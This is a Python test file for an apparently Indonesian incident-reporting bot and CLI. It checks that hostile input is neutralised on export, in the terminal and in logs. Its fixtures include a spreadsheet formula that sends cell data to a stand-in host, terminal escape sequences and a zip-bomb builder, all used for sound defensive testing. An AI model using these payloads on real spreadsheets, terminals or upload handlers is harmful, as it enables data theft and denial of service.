"""Hostile input and bad days: what people type must not attack the staff
who read it, in their terminal or their spreadsheet. Real processes, as an
operator runs them."""

from __future__ import annotations

import csv
import os
import sqlite3
import stat

import openpyxl
from sqlalchemy import update
from sqlmodel import select

from storage import incidents
from storage.models import Incident
from tests.conftest import BUDI, SITI, write_csv
from tests.test_cli import payung

KEY = {"PAYUNG_NIK_KEY": "k" * 40}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
ESCAPES = "\x1b[2J\x1b[31mdari pohon\x1b]0;pwned\x07"
STORY = f"Jatuh {ESCAPES} sawit saat panen, NIK 1603 0245 1285 0002 ikut tertulis."


def reported(tmp_path) -> None:
    """A neighbour's report whose place is a formula and whose story holds
    terminal escapes and a NIK, typed into the console chat."""
    payung(tmp_path, "import-roster", str(write_csv(tmp_path / "roster.csv", [BUDI, SITI])), env=KEY)
    lines = ["halo", "2", "2", SITI["nik"], "Siti Aminah", "Tetangga", "1", "kemarin", FORMULA, STORY]
    lines += ["selesai", "081234567890", "kirim"]
    chat = payung(tmp_path, "chat", stdin="\n".join(lines) + "\n", env=KEY)
    assert "Nomor laporan: LK-" in chat.stdout, chat.stdout


def test_a_report_shown_in_the_terminal_carries_no_escapes_and_no_nik(tmp_path):
    reported(tmp_path)
    shown = payung(tmp_path, "incidents", "show", "LK-2026-000001", env=KEY)
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout and "pwned" not in shown.stdout
    assert "Jatuh dari pohon sawit saat panen" in shown.stdout  # the words stay, the escapes go
    assert "1603********0002 ikut tertulis" in shown.stdout and "1603 0245 1285 0002" not in shown.stdout


def test_exports_hold_no_live_formula_no_escape_and_no_nik(tmp_path):
    reported(tmp_path)
    as_csv = tmp_path / "laporan.csv"  # the format comes from the extension
    assert payung(tmp_path, "export", "incidents", "--out", str(as_csv), env=KEY).returncode == 0
    [row] = list(csv.DictReader(as_csv.open(encoding="utf-8-sig")))
    assert row["place"] == "'" + FORMULA
    assert "\x1b" not in row["chronology"] and "1603********0002" in row["chronology"]
    as_xlsx = tmp_path / "laporan.xlsx"
    assert payung(tmp_path, "export", "incidents", "--out", str(as_xlsx), env=KEY).returncode == 0
    sheet = openpyxl.load_workbook(as_xlsx).active
    header = [cell.value for cell in sheet[1]]
    place = sheet.cell(row=2, column=header.index("place") + 1)
    assert place.value == "'" + FORMULA and place.data_type == "s"


def test_one_report_with_a_character_a_worksheet_refuses_does_not_block_the_export(tmp_path):
    reported(tmp_path)
    # A report stored before text was cleaned at the channel boundary.
    from sqlmodel import Session, create_engine

    engine = create_engine(f"sqlite:///{tmp_path / 'data' / 'payung.db'}")
    with Session(engine) as session:
        session.exec(update(Incident).values(chronology="Jatuh\x1b[31m dari\x00 pohon \x0b sawit"))
        session.commit()
    engine.dispose()
    as_xlsx = tmp_path / "laporan.xlsx"
    exported = payung(tmp_path, "export", "incidents", "--out", str(as_xlsx), env=KEY)
    assert exported.returncode == 0, exported.stderr
    sheet = openpyxl.load_workbook(as_xlsx).active
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=header.index("chronology") + 1).value == "Jatuh[31m dari pohon  sawit"


def test_an_export_file_name_says_its_format_or_the_operator_is_told(tmp_path):
    reported(tmp_path)
    wrong = payung(tmp_path, "export", "incidents", "--out", str(tmp_path / "laporan.txt"), env=KEY)
    assert wrong.returncode == 1 and wrong.stderr.strip().splitlines() == [
        f"error: --out {tmp_path / 'laporan.txt'}: name a .csv or .xlsx file, or say --format"
    ]
    forced = payung(tmp_path, "export", "incidents", "--out", str(tmp_path / "x.txt"), "--format", "csv", env=KEY)
    assert forced.returncode == 0 and (tmp_path / "x.txt").read_text(encoding="utf-8-sig").startswith("reference,")


def test_everything_payung_writes_is_its_owners_only(tmp_path):
    usual = os.umask(0o022)  # a shell's usual umask, which the processes inherit: Payung must not depend on it
    try:
        reported(tmp_path)
        out = tmp_path / "laporan.xlsx"
        payung(tmp_path, "export", "incidents", "--out", str(out), env=KEY)
    finally:
        os.umask(usual)
    data = tmp_path / "data"
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    for path in (data / "payung.db", out):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_a_damaged_key_file_is_refused_in_one_line_and_never_replaced(tmp_path):
    first = payung(tmp_path, "stats")
    assert first.returncode == 0, first.stderr
    key = tmp_path / "data" / "nik.key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and len(key.read_text().strip()) == 64
    key.write_text("short\n")
    again = payung(tmp_path, "stats")
    assert again.returncode == 1 and again.stderr.strip().splitlines() == [
        "error: data/nik.key holds no usable key (at least 32 characters); restore it from backup"
    ]
    assert key.read_text() == "short\n"


def test_a_database_that_cannot_be_opened_is_one_line_without_its_password(tmp_path):
    for url, reason in (
        ("postgresql://payung:rahasia@127.0.0.1:1/payung", "cannot open the database"),
        ("nonsense://x", "cannot be used"),
    ):
        failed = payung(tmp_path, "stats", env={**KEY, "PAYUNG_DATABASE_URL": url})
        [line] = failed.stderr.strip().splitlines()
        assert failed.returncode == 1 and line.startswith("error: ") and reason in line, failed.stderr
        assert "rahasia" not in line and "Traceback" not in failed.stderr


async def test_a_filed_report_leaves_no_draft_and_an_abandoned_one_is_forgotten(app):
    from datetime import timedelta

    from storage.chats import prune_sessions
    from storage.models import ConversationState
    from tests.test_transcript_incident import own_report
    from tests.transcript import Chat

    filer, leaver = Chat(app, "filer"), Chat(app, "leaver")
    for line in (*own_report(), "1"):
        await filer.says(line)
    for line in own_report()[:7]:
        await leaver.says(line)

    def drafts() -> dict[str, dict]:
        with app.db.transaction() as session:
            return {state.chat_pk: state.data for state in session.exec(select(ConversationState)).all()}

    assert sorted(bool(data) for data in drafts().values()) == [False, True]  # only the unfinished one holds data
    app.clock.advance(days=32)  # past the draft's day of patience and the 30 days kept
    with app.db.transaction() as session:
        assert prune_sessions(session, before=app.clock() - timedelta(days=30)) == 2
    assert drafts() == {}
    assert "Halo! Saya Payung" in await leaver.says("Kebun")  # a new conversation, nothing half-remembered


async def test_a_status_note_too_long_is_refused_the_same_way_on_every_database(any_db_app):
    from bot.operator_commands import Command, OperatorCommands
    from tests.test_transcript_incident import own_report
    from tests.transcript import Chat

    app = any_db_app
    chat = Chat(app)
    for line in (*own_report(), "1"):
        await chat.says(line)
    commands = OperatorCommands(
        db=app.db, notices=app.notices, catalogue=app.services.catalogue, operators={42}, clock=app.clock
    )
    long_name = "Operator " + "Sangat Panjang " * 20

    def status(number: int, note: str) -> str:
        return commands.run(Command("telegram", f"cmd-{number}", 42, long_name, f"/status LK-2026-000001 {note}"))

    refused = status(1, "diverifikasi " + "x" * 501)
    assert refused.startswith("Catatan terlalu panjang (501 huruf, paling banyak 500). Status tidak diubah")
    assert status(2, "diverifikasi " + "x" * 500).startswith("LK-2026-000001")  # the longest note, a long name
    with app.db.transaction() as session:
        found = incidents.report(session, reference="LK-2026-000001")
        [_, changed] = incidents.history(session, incident_id=found.id)
    assert changed.status == "diverifikasi" and len(changed.note) == 500 and len(changed.actor) == 120


def test_the_lock_file_pins_every_dependency_within_pyproject_bounds():
    import tomllib
    from pathlib import Path

    from packaging.requirements import Requirement

    root = Path(__file__).parent.parent
    project = tomllib.loads((root / "pyproject.toml").read_text())["project"]
    locked = {}
    for line in (root / "requirements.lock").read_text().splitlines():
        if "==" in line and not line.startswith(("#", " ")):
            name, version = line.split("==")
            locked[name.strip().lower().replace("_", "-")] = version.split()[0]
    wanted = [Requirement(text) for text in project["dependencies"] + project["optional-dependencies"]["test"]]
    for requirement in wanted:
        if requirement.name == "payung":
            continue
        name = requirement.name.lower().replace("_", "-")
        assert name in locked, f"{name} is not in requirements.lock: refresh it (README, Installing)"
        assert requirement.specifier.contains(locked[name], prereleases=True), (name, locked[name])
    for major in ("sqlmodel", "sqlalchemy", "starlette", "uvicorn"):
        [requirement] = [r for r in wanted if r.name.lower() == major]
        assert any(spec.operator == "<" for spec in requirement.specifier), f"{major} needs an upper bound"


def roster_row(**fields: str) -> str:
    row = {**BUDI, **fields}
    return ",".join(row.values())


def test_a_roster_name_with_doubled_quotes_is_stored_as_written(tmp_path):
    path = tmp_path / "roster.csv"
    quoted = '"Joko ""Jek"" Rekaan"'  # as Excel writes a name with quotes in it
    path.write_text(f"{','.join(BUDI)}\n{roster_row(nama=quoted)}\n", encoding="utf-8")
    imported = payung(tmp_path, "import-roster", str(path), env=KEY)
    assert imported.returncode == 0, imported.stderr
    with sqlite3.connect(tmp_path / "data" / "payung.db") as db:
        assert db.execute("SELECT name FROM participants").fetchall() == [('Joko "Jek" Rekaan',)]


def test_a_roster_with_a_field_of_pages_is_one_clear_line(tmp_path):
    header = ",".join(BUDI)
    for size, reason in ((300_000, "line 2: cannot be read"), (5_000, "row 2, column nama: over 1,000 characters")):
        path = tmp_path / f"roster-{size}.csv"
        path.write_text(f"{header}\n{roster_row(nama='J' * size)}\n", encoding="utf-8")
        imported = payung(tmp_path, "import-roster", str(path), env=KEY)
        [line] = imported.stderr.strip().splitlines()[-1:]
        assert imported.returncode == 1 and reason in line and "Traceback" not in imported.stderr, imported.stderr


def test_an_xlsx_that_unpacks_to_gigabytes_is_refused_before_it_is_opened(tmp_path):
    import zipfile

    bomb = tmp_path / "roster.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
            chunk = b"a" * 2**20
            for _ in range(600):  # 600 MB of one letter: about 600 KB on disk
                member.write(chunk)
    assert bomb.stat().st_size < 5 * 2**20
    imported = payung(tmp_path, "import-roster", str(bomb), env=KEY)
    assert imported.returncode == 1
    assert imported.stderr.strip().endswith("unpacks to 600 MB, over the 512 MB a roster needs"), imported.stderr


def test_tracebacks_and_phone_numbers_are_masked_in_the_logs():
    import io
    import logging

    from bot.logs import Redact

    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(Redact())
    handler.setFormatter(logging.Formatter("%(message)s"))
    log = logging.getLogger("payung.tests.redact")
    log.addHandler(handler)
    log.propagate = False
    try:
        float("1603045307740001x")
    except ValueError:
        log.exception("a step failed for +62 812-3456-7890 (NIK 1603 0453 0774 0001)")
    written = stream.getvalue()
    assert "Traceback" in written and "could not convert string to float: '1603********0001x'" in written
    for secret in ("1603045307740001", "1603 0453 0774 0001", "812-3456-7890"):
        assert secret not in written, secret
    assert "<phone>" in written


def test_an_import_stopped_halfway_is_told_by_stats_until_the_file_is_imported_again(tmp_path):
    import pytest

    from bot.app import build_app
    from bot.config import Settings
    from bot.ops.roster import import_roster, open_roster
    from tests.conftest import ADMIN, person

    people = [person(nik=f"160301050380{n:04d}", nama=f"Warga {n}") for n in range(1, 41)]
    path = write_csv(tmp_path / "roster.csv", people)
    app = build_app(Settings(data_dir=tmp_path / "data", nik_key="k" * 40))

    def stop_after_the_first_batch(advanced: int) -> None:
        raise KeyboardInterrupt  # the operator's Ctrl-C, or a killed process, between two batches

    with pytest.raises(KeyboardInterrupt):
        import_roster(
            open_roster(path),
            actor=ADMIN,
            db=app.db,
            hasher=app.services.hasher,
            now=app.clock(),
            batch_size=10,
            progress=stop_after_the_first_batch,
        )
    app.close()
    stopped = payung(tmp_path, "stats", env=KEY)
    assert "the roster import of roster.csv by test" in stopped.stderr
    assert "did not finish (or is still running)" in stopped.stderr and "Import the file again." in stopped.stderr
    assert payung(tmp_path, "import-roster", str(path), env=KEY).returncode == 0
    assert "did not finish" not in payung(tmp_path, "stats", env=KEY).stderr
